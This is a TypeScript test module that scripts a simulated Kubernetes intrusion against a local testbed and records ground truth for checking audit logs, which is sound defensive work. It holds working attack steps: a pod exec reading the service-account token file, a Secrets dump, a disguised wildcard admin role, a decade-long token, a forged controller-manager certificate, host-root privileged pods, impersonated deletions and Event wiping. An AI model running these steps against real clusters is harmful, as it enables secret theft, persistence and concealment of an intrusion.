import { execFile } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { type ApiAnswer, type Requester, type RequestOptions, requester } from '../../testbed/api.ts';
import type { ControlPlane } from '../../testbed/control-plane.ts';
import { eventually } from './cluster.ts';

const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const CSRS = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
const GROUP = 'rbac.authorization.k8s.io';
const run = promisify(execFile);

/** What truly happened in one step of the attack; whoever kept records has to be able to tell it again. */
export interface Truth {
  readonly step: string;
  /** Of the request, where the client saw it. */
  readonly auditID: string | undefined;
  readonly who: { readonly user: string; readonly impersonated: string };
  readonly what: {
    readonly verb: string;
    /** With the subresource: `pods/exec`. */
    readonly resource: string;
    readonly namespace: string;
    readonly name: string;
    readonly code: number;
  };
  /** Milliseconds since the epoch, around the request. */
  readonly when: { readonly from: number; readonly to: number };
  readonly where: { readonly address: string; readonly userAgent: string };
  /** The binding that allowed it, its role and who had made it; undefined where no binding did. */
  readonly why: Grant | undefined;
  /** The earlier step that made it possible. */
  readonly how: string | undefined;
}

export interface Grant {
  readonly binding: string;
  readonly role: string;
  readonly madeBy: string;
}

export interface Attacked {
  readonly truth: readonly Truth[];
  /** What must never reach a disk: values of Secrets, tokens, private keys. */
  readonly secrets: readonly string[];
  /** Pods of the Deployment that was deleted: the garbage collector deletes them. */
  readonly collected: readonly string[];
  /** The command that was executed in a pod. */
  readonly command: readonly string[];
}

/** Someone who asks the API server: in whose name, from which address, with which program. */
interface Actor {
  readonly user: string;
  readonly address: string;
  readonly userAgent: string;
  readonly ask: Requester;
  readonly options: RequestOptions;
}

const VERBS: Readonly<Record<string, string>> = {
  POST: 'create',
  PUT: 'update',
  PATCH: 'patch',
  DELETE: 'delete',
};

class Attack {
  readonly truth: Truth[] = [];
  readonly secrets: string[] = [];
  private readonly plane: ControlPlane;

  constructor(plane: ControlPlane) {
    this.plane = plane;
  }

  /** Someone with a client certificate. */
  withCertificate(user: string, groups: readonly string[], address: string, userAgent: string): Actor {
    const issued = this.plane.issue({ commonName: user, organizations: groups, usages: ['client'] });
    return this.withIssued(user, issued, address, userAgent);
  }

  withIssued(
    user: string,
    issued: { readonly certificate: string; readonly key: string },
    address: string,
    userAgent: string,
  ): Actor {
    const pki = join(this.plane.folder, 'pki');
    const file = `attack-${user.replaceAll(':', '-')}`;
    writeFileSync(join(pki, `${file}.crt`), issued.certificate);
    writeFileSync(join(pki, `${file}.key`), issued.key, { mode: 0o600 });
    this.secrets.push(issued.key);
    const ask = requester(this.plane.server, pki, file);
    return { user, address, userAgent, ask, options: {} };
  }

  withToken(user: string, token: string, address: string, userAgent: string): Actor {
    // The signature: the rest of a token is no secret.
    this.secrets.push(token.slice(token.lastIndexOf('.') + 1));
    return { user, address, userAgent, ask: this.plane.request, options: { token } };
  }

  /** Asks without a word in the truth. */
  async ask(
    { ask, options, address, userAgent }: Actor,
    method: string,
    path: string,
    body?: unknown,
    more: RequestOptions = {},
  ): Promise<ApiAnswer> {
    return ask(method, path, body, {
      ...options,
      ...more,
      localAddress: address,
      headers: { 'user-agent': userAgent, ...more.headers },
    });
  }

  /** A request that belongs to the story; it has to be answered with `code`. */
  async step(
    step: string,
    actor: Actor,
    [method, path, body, options]: readonly [string, string, unknown?, RequestOptions?],
    what: Omit<Truth['what'], 'verb'> & { readonly verb?: string },
    why: Grant | undefined,
    how?: string,
  ): Promise<ApiAnswer> {
    const from = Date.now();
    const answer = await this.ask(actor, method, path, body, options);
    if (answer.status !== what.code) {
      throw new Error(`${step}: ${answer.status} ${JSON.stringify(answer.body).slice(0, 500)}`);
    }
    const impersonated = String(options?.headers?.['impersonate-user'] ?? '');
    this.truth.push({
      step,
      auditID: String(answer.headers['audit-id']),
      who: { user: actor.user, impersonated },
      what: { verb: VERBS[method] ?? 'get', ...what },
      when: { from, to: Date.now() },
      where: { address: actor.address, userAgent: actor.userAgent },
      why,
      how,
    });
    return answer;
  }
}

/**
 * An attack in the manner of Stratus Red Team's Kubernetes techniques, by a developer who may only execute commands in pods: a
 * service account's token is taken out of a pod and used from another address; Secrets are dumped; an administrator's role,
 * service account, long-lived token and client certificate are made; pods that reach their node are started; a Deployment is
 * deleted in someone else's name, then a namespace, then the Events that would tell of it.
 *
 * The control plane has to have all components, and `executeAs`.
 */
export async function attack(plane: ControlPlane): Promise<Attacked> {
  const story = new Attack(plane);
  const step = story.step.bind(story);
  const { expect: ask } = plane;
  const admin: Grant = {
    binding: 'ClusterRoleBinding platform-admins',
    role: 'ClusterRole cluster-admin',
    madeBy: 'admin',
  };
  const dana = story.withCertificate('dana', ['platform'], '127.0.0.21', 'kubectl/v1.37.2 (darwin/arm64)');
  const mallory = story.withCertificate('mallory', ['developers'], '127.0.0.31', 'kubectl/v1.37.2');
  await ask('POST', `${RBAC}/clusterrolebindings`, {
    metadata: { name: 'platform-admins' },
    roleRef: { apiGroup: GROUP, kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'Group', apiGroup: GROUP, name: 'platform' }],
  });
  await eventually(
    async () => (await story.ask(dana, 'GET', `${RBAC}/clusterroles/cluster-admin`)).status === 200,
  );

  const collected = await peace(story, dana);
  await step(
    'grant-ci',
    dana,
    [
      'POST',
      `${RBAC}/clusterrolebindings`,
      {
        metadata: { name: 'ci-deploys' },
        roleRef: { apiGroup: GROUP, kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'ServiceAccount', namespace: 'shop', name: 'ci' }],
      },
    ],
    { resource: 'clusterrolebindings', namespace: '', name: 'ci-deploys', code: 201 },
    admin,
  );
  const ci: Grant = {
    binding: 'ClusterRoleBinding ci-deploys',
    role: 'ClusterRole cluster-admin',
    madeBy: 'dana',
  };
  await story.ask(dana, 'POST', `${RBAC}/namespaces/shop/roles`, {
    metadata: { name: 'debugger' },
    rules: [
      { apiGroups: [''], resources: ['pods'], verbs: ['get', 'list'] },
      { apiGroups: [''], resources: ['pods/exec'], verbs: ['get', 'create'] },
    ],
  });
  await step(
    'grant-developers',
    dana,
    [
      'POST',
      `${RBAC}/namespaces/shop/rolebindings`,
      {
        metadata: { name: 'developers-debug' },
        roleRef: { apiGroup: GROUP, kind: 'Role', name: 'debugger' },
        subjects: [{ kind: 'Group', apiGroup: GROUP, name: 'developers' }],
      },
    ],
    { resource: 'rolebindings', namespace: 'shop', name: 'developers-debug', code: 201 },
    admin,
  );
  const anonymous: Actor = {
    user: 'system:anonymous',
    address: '127.0.0.99',
    userAgent: 'zgrab/0.x',
    ask: plane.request,
    options: { anonymous: true },
  };
  const secrets = { verb: 'list', resource: 'secrets', namespace: '', name: '' };
  await step('probe', anonymous, ['GET', '/api/v1/secrets'], { ...secrets, code: 403 }, undefined);
  await step(
    'secrets-refused',
    mallory,
    ['GET', '/api/v1/namespaces/shop/secrets'],
    { ...secrets, namespace: 'shop', code: 403 },
    undefined,
  );

  const command = ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token; echo taken'];
  const stolen = await execute(story, plane, mallory, command);

  const thief = story.withToken('system:serviceaccount:shop:ci', stolen, '127.0.0.66', 'curl/8.5.0');
  await step('dump-secrets', thief, ['GET', '/api/v1/secrets'], { ...secrets, code: 200 }, ci, 'exec');
  await step(
    'admin-role',
    thief,
    [
      'POST',
      `${RBAC}/clusterroles`,
      {
        metadata: { name: 'system-metrics' },
        rules: [
          { apiGroups: ['*'], resources: ['*'], verbs: ['*'] },
          { nonResourceURLs: ['*'], verbs: ['*'] },
        ],
      },
    ],
    { resource: 'clusterroles', namespace: '', name: 'system-metrics', code: 201 },
    ci,
    'exec',
  );
  await step(
    'admin-account',
    thief,
    ['POST', '/api/v1/namespaces/kube-system/serviceaccounts', { metadata: { name: 'metrics-agent' } }],
    { resource: 'serviceaccounts', namespace: 'kube-system', name: 'metrics-agent', code: 201 },
    ci,
    'exec',
  );
  await step(
    'admin-binding',
    thief,
    [
      'POST',
      `${RBAC}/clusterrolebindings`,
      {
        metadata: { name: 'system-metrics' },
        roleRef: { apiGroup: GROUP, kind: 'ClusterRole', name: 'system-metrics' },
        subjects: [{ kind: 'ServiceAccount', namespace: 'kube-system', name: 'metrics-agent' }],
      },
    ],
    { resource: 'clusterrolebindings', namespace: '', name: 'system-metrics', code: 201 },
    ci,
    'exec',
  );
  const lasting = await step(
    'long-lived-token',
    thief,
    [
      'POST',
      '/api/v1/namespaces/kube-system/serviceaccounts/metrics-agent/token',
      {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: { expirationSeconds: 10 * 365 * 86_400 },
      },
    ],
    { resource: 'serviceaccounts/token', namespace: 'kube-system', name: 'metrics-agent', code: 201 },
    ci,
    'exec',
  );
  await takeCertificate(story, plane, thief, ci);

  const agent = story.withToken(
    'system:serviceaccount:kube-system:metrics-agent',
    lasting.body.status.token,
    '127.0.0.66',
    'python-requests/2.32.3',
  );
  const made: Grant = {
    binding: 'ClusterRoleBinding system-metrics',
    role: 'ClusterRole system-metrics',
    madeBy: 'system:serviceaccount:shop:ci',
  };
  await eventually(async () => (await story.ask(agent, 'GET', '/api/v1/nodes')).status === 200);
  await reachNodes(story, agent, made);

  await step(
    'delete-deployment',
    agent,
    [
      'DELETE',
      '/apis/apps/v1/namespaces/shop/deployments/web',
      { kind: 'DeleteOptions', apiVersion: 'v1', propagationPolicy: 'Background' },
      { headers: { 'impersonate-user': 'dana', 'impersonate-group': 'platform' } },
    ],
    { resource: 'deployments', namespace: 'shop', name: 'web', code: 200 },
    admin,
    'long-lived-token',
  );
  await step(
    'delete-namespace',
    agent,
    ['DELETE', '/api/v1/namespaces/payments'],
    { resource: 'namespaces', namespace: 'payments', name: 'payments', code: 200 },
    made,
    'long-lived-token',
  );
  const isGone = async (path: string): Promise<boolean> => (await plane.request('GET', path)).status === 404;
  await eventually(() => isGone('/api/v1/namespaces/payments'), 60);
  for (const pod of collected) await eventually(() => isGone(`/api/v1/namespaces/shop/pods/${pod}`), 60);
  await step(
    'delete-events',
    agent,
    ['DELETE', '/api/v1/namespaces/shop/events'],
    { verb: 'deletecollection', resource: 'events', namespace: 'shop', name: '', code: 200 },
    made,
    'long-lived-token',
  );
  return { truth: story.truth, secrets: story.secrets, collected, command };
}

/** What the platform's engineer runs before anything happens. @returns the names of the pods of Deployment web */
async function peace(story: Attack, dana: Actor): Promise<string[]> {
  for (const namespace of ['shop', 'payments']) {
    await story.ask(dana, 'POST', '/api/v1/namespaces', { metadata: { name: namespace } });
    await eventually(async () => {
      const account = `/api/v1/namespaces/${namespace}/serviceaccounts/default`;
      return (await story.ask(dana, 'GET', account)).status === 200;
    });
    const password = `hunter2-${namespace}-${Math.random().toString(36).slice(2)}`;
    story.secrets.push(password, Buffer.from(password).toString('base64'));
    await story.ask(dana, 'POST', `/api/v1/namespaces/${namespace}/secrets`, {
      metadata: { name: 'database' },
      stringData: { password },
    });
  }
  await story.ask(dana, 'POST', '/api/v1/namespaces/shop/serviceaccounts', { metadata: { name: 'ci' } });
  const spec = (account: string): object => ({
    serviceAccountName: account,
    containers: [{ name: 'c', image: 'registry.example/shop:1' }],
  });
  await story.ask(dana, 'POST', '/api/v1/namespaces/shop/pods', {
    metadata: { name: 'runner' },
    spec: spec('ci'),
  });
  for (const [namespace, name] of [
    ['shop', 'web'],
    ['payments', 'ledger'],
  ]) {
    await story.ask(dana, 'POST', `/apis/apps/v1/namespaces/${namespace}/deployments`, {
      metadata: { name },
      spec: {
        replicas: 3,
        selector: { matchLabels: { app: name } },
        template: { metadata: { labels: { app: name } }, spec: spec('default') },
      },
    });
  }
  const running = async (): Promise<string[] | undefined> => {
    const { body } = await story.ask(dana, 'GET', '/api/v1/namespaces/shop/pods');
    const pods = body.items.filter((pod: { status: { phase: string } }) => pod.status.phase === 'Running');
    return pods.length === 4
      ? pods.map((pod: { metadata: { name: string } }) => pod.metadata.name)
      : undefined;
  };
  return (await eventually(running)).filter((name) => name !== 'runner');
}

/**
 * The developer executes a command in a pod with the real kubectl; then the token is there that the node had got for the pod.
 *
 * @returns the token
 */
async function execute(
  story: Attack,
  plane: ControlPlane,
  mallory: Actor,
  command: readonly string[],
): Promise<string> {
  const pod = await plane.expect('GET', '/api/v1/namespaces/shop/pods/runner');
  const node = story.withCertificate(
    `system:node:${pod.spec.nodeName}`,
    ['system:nodes'],
    '127.0.0.1',
    'kubelet/v1.37.2',
  );
  const issued = await story.step(
    'token-of-pod',
    node,
    [
      'POST',
      '/api/v1/namespaces/shop/serviceaccounts/ci/token',
      {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: {
          expirationSeconds: 3607,
          boundObjectRef: { kind: 'Pod', apiVersion: 'v1', name: 'runner', uid: pod.metadata.uid },
        },
      },
    ],
    { resource: 'serviceaccounts/token', namespace: 'shop', name: 'ci', code: 201 },
    undefined,
  );
  const from = Date.now();
  const { stdout } = await run(join(plane.programs, 'kubectl'), [
    `--kubeconfig=${plane.kubeconfigFor({ user: mallory.user, groups: ['developers'] })}`,
    'exec',
    '--namespace=shop',
    'runner',
    '--',
    ...command,
  ]);
  if (!stdout.includes('taken')) throw new Error(`exec: ${stdout}`);
  story.truth.push({
    step: 'exec',
    auditID: undefined,
    who: { user: mallory.user, impersonated: '' },
    // kubectl asks for a WebSocket, which is a GET.
    what: { verb: 'get', resource: 'pods/exec', namespace: 'shop', name: 'runner', code: 101 },
    when: { from, to: Date.now() },
    where: { address: '127.0.0.1', userAgent: 'kubectl/v1.37.2' },
    why: { binding: 'RoleBinding shop/developers-debug', role: 'Role shop/debugger', madeBy: 'dana' },
    how: 'grant-developers',
  });
  return issued.body.status.token;
}

/** Stratus' k8s.persistence.create-client-certificate: a certificate in the controller manager's name, used from elsewhere. */
async function takeCertificate(story: Attack, plane: ControlPlane, thief: Actor, why: Grant): Promise<void> {
  const key = join(plane.folder, 'csr.key');
  const user = 'system:kube-controller-manager';
  const { stdout } = await run('openssl', [
    'req',
    '-new',
    '-newkey',
    'ec',
    '-pkeyopt',
    'ec_paramgen_curve:P-256',
    '-nodes',
    '-keyout',
    key,
    '-subj',
    `/CN=${user}`,
  ]);
  const name = 'metrics-rotation';
  const object = { resource: 'certificatesigningrequests', namespace: '', name };
  const { body } = await story.step(
    'certificate-request',
    thief,
    [
      'POST',
      CSRS,
      {
        metadata: { name },
        spec: {
          request: Buffer.from(stdout).toString('base64'),
          signerName: 'kubernetes.io/kube-apiserver-client',
          usages: ['client auth'],
        },
      },
    ],
    { ...object, code: 201 },
    why,
    'exec',
  );
  const condition = { type: 'Approved', status: 'True', reason: 'Rotation', message: 'by hand' };
  await story.step(
    'certificate-approval',
    thief,
    ['PUT', `${CSRS}/${name}/approval`, { ...body, status: { conditions: [condition] } }],
    { ...object, resource: `${object.resource}/approval`, code: 200 },
    why,
    'exec',
  );
  const certificate = await eventually(
    async () => (await story.ask(thief, 'GET', `${CSRS}/${name}`)).body.status?.certificate as string,
  );
  const issued = {
    certificate: Buffer.from(certificate, 'base64').toString(),
    key: readFileSync(key, 'utf8'),
  };
  const forged = story.withIssued(user, issued, '127.0.0.66', 'Go-http-client/2.0');
  await story.step(
    'certificate-used',
    forged,
    ['GET', '/api/v1/secrets'],
    { verb: 'list', resource: 'secrets', namespace: '', name: '', code: 200 },
    {
      binding: 'ClusterRoleBinding system:kube-controller-manager',
      role: 'ClusterRole system:kube-controller-manager',
      // Kubernetes made it at its start.
      madeBy: 'system:apiserver',
    },
    'certificate-approval',
  );
}

/** Stratus' k8s.privilege-escalation.privileged-pod, hostpath-volume and nodes-proxy. */
async function reachNodes(story: Attack, agent: Actor, why: Grant): Promise<void> {
  const container = { name: 'c', image: 'registry.example/tools:1' };
  const pods = '/api/v1/namespaces/kube-system/pods';
  for (const [name, spec] of [
    [
      'node-debug',
      { hostPID: true, containers: [{ ...container, securityContext: { privileged: true } }] },
    ] as const,
    [
      'node-files',
      {
        containers: [{ ...container, volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
        volumes: [{ name: 'host', hostPath: { path: '/' } }],
      },
    ] as const,
  ]) {
    await story.step(
      name,
      agent,
      ['POST', pods, { metadata: { name }, spec }],
      { resource: 'pods', namespace: 'kube-system', name, code: 201 },
      why,
      'long-lived-token',
    );
  }
  await story.step(
    'nodes-proxy',
    agent,
    ['GET', '/api/v1/nodes/kwok-node-0/proxy/runningpods/'],
    // The node of the testbed has a loopback address, to which the API server proxies nothing: tried, and allowed, in vain.
    { resource: 'nodes/proxy', namespace: '', name: 'kwok-node-0', code: 400 },
    why,
    'long-lived-token',
  );
}
